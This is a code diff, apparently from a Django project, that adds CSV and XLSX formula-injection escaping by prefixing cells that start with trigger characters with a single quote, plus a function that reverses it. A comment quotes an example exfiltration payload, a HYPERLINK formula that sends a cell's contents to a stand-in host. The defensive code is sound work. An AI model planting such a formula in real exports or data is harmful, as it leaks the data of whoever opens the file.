@@ -54,3 +54,24 @@ def guard_text_fields(models) -> None:
                 # The field's own validators, so that its migration records this one.
                 field._validators = [*field._validators, PlainTextValidator()]
                 field.__dict__.pop("validators", None)  # a cached_property
+
+
+# Spreadsheet cells. A text cell that starts with one of these is read as a formula by
+# Excel, LibreOffice or Google Sheets: `=HYPERLINK("http://evil.example/?d="&A2,"open")`
+# in a source title would run in whoever opens our download. OWASP's advice for CSV
+# injection: prefix such a cell with a single quote, so it shows as the text it is.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_cell(value):
+    """`value` as a CSV or XLSX cell: text never starts a formula; numbers stay numbers."""
+    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
+        return "'" + value
+    return value
+
+
+def from_spreadsheet_cell(text: str) -> str:
+    """The text a cell written by spreadsheet_cell holds, so a download uploads unchanged."""
+    if text.startswith("'") and text[1:].startswith(FORMULA_TRIGGERS):
+        return text[1:]
+    return text
